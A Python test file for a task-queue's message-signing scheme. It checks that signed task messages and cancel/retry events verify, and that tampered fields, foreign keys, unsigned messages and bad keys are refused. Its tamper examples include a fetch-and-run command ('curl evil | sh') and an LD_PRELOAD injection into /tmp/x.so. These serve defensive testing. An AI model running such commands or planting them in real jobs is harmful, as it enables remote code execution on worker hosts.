"""Task messages and control events signed by the app verify; any change to what a signature
covers, another key, or no signature at all does not (property-tested over every field)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.errors import ConfigError, MessageError
from shared.messages import (
    CancelEvent,
    OutputRef,
    RetryEvent,
    TaskMessage,
    decode_event,
    decode_task_message,
    encode,
)
from shared.signing import Signer, new_key_pair, verifier_of

PRIVATE, PUBLIC = new_key_pair()
SIGNER = Signer(PRIVATE)
VERIFIER = verifier_of(PUBLIC)
assert VERIFIER is not None

MESSAGE = TaskMessage(
    workflow_id="wf-1",
    task="train.lr=0.1",
    attempt=2,
    queue="gpu",
    cmd="python train.py --lr 0.1",
    env={"SEED": "7"},
    cwd="/data",
    timeout_s=600.0,
    upstream={"prep": OutputRef(inline={"rows": 10})},
    partition=1,
    incarnation=12345,
    run=1,
)


def sent_and_received(message: TaskMessage) -> TaskMessage:
    return decode_task_message(encode(message))


def test_a_signed_message_verifies_after_the_queue() -> None:
    VERIFIER.check(sent_and_received(SIGNER.sign(MESSAGE)))


CHANGES = {
    "cmd": "curl evil | sh",
    "env": {"SEED": "7", "LD_PRELOAD": "/tmp/x.so"},
    "cwd": "/",
    "timeout_s": 1e6,
    "upstream": {"prep": OutputRef(inline={"rows": 11})},
    "incarnation": 54321,
    "attempt": 3,
    "workflow_id": "wf-2",
    "queue": "cpu",
    "partition": 0,
    "run": 2,
}


@pytest.mark.parametrize("field", sorted(CHANGES))
def test_changing_any_covered_field_breaks_the_signature(field: str) -> None:
    forged = SIGNER.sign(MESSAGE).model_copy(update={field: CHANGES[field]})
    with pytest.raises(MessageError, match="no key in DAGQ_VERIFY_KEYS made"):
        VERIFIER.check(sent_and_received(forged))


@given(cmd=st.text(max_size=200), value=st.text(max_size=50))
def test_any_command_or_env_value_is_covered(cmd: str, value: str) -> None:
    signed = SIGNER.sign(MESSAGE.model_copy(update={"cmd": cmd, "env": {"K": value}}))
    VERIFIER.check(signed)
    if cmd != MESSAGE.cmd:
        with pytest.raises(MessageError):
            VERIFIER.check(signed.model_copy(update={"cmd": MESSAGE.cmd}))


def test_unsigned_and_foreign_messages_are_refused_with_their_reason() -> None:
    with pytest.raises(MessageError, match="TaskMessage is not signed by the app"):
        VERIFIER.check(MESSAGE)
    stranger = Signer(new_key_pair()[0])
    with pytest.raises(MessageError, match="no key in DAGQ_VERIFY_KEYS made"):
        VERIFIER.check(stranger.sign(MESSAGE))
    garbage = MESSAGE.model_copy(update={"sig": "not base64 at all!"})
    with pytest.raises(MessageError):
        VERIFIER.check(garbage)


def test_during_a_rotation_both_keys_verify() -> None:
    new_private, new_public = new_key_pair()
    both = verifier_of(f"{PUBLIC}, {new_public}")
    assert both is not None
    both.check(SIGNER.sign(MESSAGE))
    both.check(Signer(new_private).sign(MESSAGE))


def test_the_app_verifies_with_its_own_key_and_nothing_is_checked_without_keys() -> None:
    own = verifier_of(None, PRIVATE)
    assert own is not None
    own.check(SIGNER.sign(MESSAGE))
    assert verifier_of(None, None) is None
    assert verifier_of(" , ", None) is None


def test_control_events_are_signed_and_a_signature_fits_its_kind_only() -> None:
    cancel = SIGNER.sign(CancelEvent(workflow_id="wf-1", incarnation=1))
    VERIFIER.check(decode_event(encode(cancel)))  # type: ignore[arg-type]
    retry = RetryEvent(workflow_id="wf-1", run=1, incarnation=1, sig=cancel.sig)
    with pytest.raises(MessageError):
        VERIFIER.check(retry)


@pytest.mark.parametrize(
    "key",
    ["", "abc", "A" * 43, "A" * 43 + "=AAAA", "not base64 at all!"],
    ids=["empty", "short", "unpadded", "trailing", "garbage"],
)
def test_a_bad_key_is_a_configuration_error(key: str) -> None:
    with pytest.raises(ConfigError):
        Signer(key)
